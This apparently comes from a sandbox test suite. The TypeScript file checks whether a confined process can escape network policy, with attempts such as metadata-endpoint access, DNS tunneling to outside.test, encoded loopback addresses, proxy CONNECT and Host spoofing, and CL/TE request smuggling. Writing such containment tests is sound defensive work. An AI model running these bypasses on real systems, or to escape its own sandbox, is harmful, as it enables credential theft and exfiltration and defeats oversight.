import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { addresses } from '../host/internet.ts';
import { type Attempt, type RunOptions, type Scene, steals } from '../host/scene.ts';

/** Under `strict` the attacker has an allow-list; the other presets have the network of the host by default. */
function options({ stage, column }: Scene): RunOptions {
  if (column.preset !== 'strict') return {};
  const { port } = stage.internet;
  return {
    policy: {
      network: { allow: [`${addresses.allowed}:${port}`, `allowed.test:${port}`, `rebind.test:${port}`] },
    },
  };
}

const reaches = (host: string): Attempt =>
  steals(({ stage }) => {
    const { port } = stage.internet;
    return { deed: 'connect', host, port, text: `GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n` };
  }, options);

const get = (host: string) => `GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

/** Whether a name server heard of something that only this attack could have told it. */
function tells(deed: (word: string) => Parameters<Scene['run']>[0]): Attempt {
  return async scene => {
    const word = `w${randomUUID().slice(0, 8)}`;
    await scene.run(deed(word), options(scene));
    return scene.stage.internet.heard.some(each => each.includes(word)) ? 'open' : 'held';
  };
}

export const network: Record<string, Attempt> = {
  'network:loopback': reaches('127.0.0.1'),
  'network:metadata': reaches(addresses.metadata),
  'network:private': reaches(addresses.private),
  'network:address': reaches(addresses.outside),
  'network:domain': reaches('outside.test'),
  'network:rebinding': reaches('rebind.test'),
  'network:dns-tunnel': tells(word => ({ deed: 'lookup', name: `${word}.outside.test` })),
  'network:dns-below-allowed': tells(word => ({ deed: 'lookup', name: `${word}.allowed.test` })),
  'network:dns-direct': tells(word => ({
    deed: 'ask',
    server: addresses.outsideNames,
    name: `${word}.outside.test`,
  })),
  'network:datagram': tells(word => ({ deed: 'shout', host: addresses.outsideNames, port: 53, text: word })),
  'network:redirect': steals(
    ({ stage: { internet } }) => ({
      deed: 'browse-any',
      urls: ['metadata', 'loopback', 'outside'].map(
        to => `http://${addresses.allowed}:${internet.port}/${to}`,
      ),
    }),
    options,
  ),
  'network:proxy-redirect': steals(
    ({ stage: { internet } }) => ({
      deed: 'browse-any',
      proxied: true,
      urls: ['metadata', 'loopback', 'outside'].map(to => `http://allowed.test:${internet.port}/${to}`),
    }),
    options,
  ),
  'network:proxy-connect': steals(({ stage: { internet } }) => {
    const { port } = internet;
    const host = addresses.metadata;
    const lines = `CONNECT ${host}:${port} HTTP/1.1\r\nHost: allowed.test:${port}\r\n\r\n`;
    return { deed: 'through-proxy', lines, host, port, text: get(host) };
  }, options),
  'network:proxy-encoded': steals(
    ({ stage: { internet } }) => ({
      deed: 'browse-any',
      proxied: true,
      urls: ['2130706433', '0x7f.1', '0177.0.0.1', '[::ffff:127.0.0.1]', '127.1', '0.0.0.0'].map(
        host => `http://${host}:${internet.port}/`,
      ),
    }),
    options,
  ),
  'network:proxy-host': steals(({ stage: { internet } }) => {
    const { port } = internet;
    const host = addresses.metadata;
    const lines = `GET http://allowed.test:${port}/ HTTP/1.1\r\nHost: ${host}:${port}\r\nConnection: close\r\n\r\n`;
    return { deed: 'through-proxy', lines, host, port, text: get(host) };
  }, options),
  'network:proxy-smuggled': steals(({ stage: { internet } }) => {
    const { port } = internet;
    const host = addresses.metadata;
    const hidden = `GET http://${host}:${port}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
    const lines = [
      `POST http://allowed.test:${port}/ HTTP/1.1\r\nHost: allowed.test\r\n`,
      `Content-Length: ${hidden.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ].join('');
    return { deed: 'through-proxy', lines: lines + hidden, host, port, text: get(host) };
  }, options),
  'network:abstract-socket': steals(
    ({ stage }) => ({ deed: 'connect', path: stage.internet.abstractSocket }),
    options,
  ),
  'network:gateway-socket': steals(
    ({ stage }) => ({ deed: 'connect', path: join(stage.gateway, 'gateway.sock') }),
    options,
  ),
};
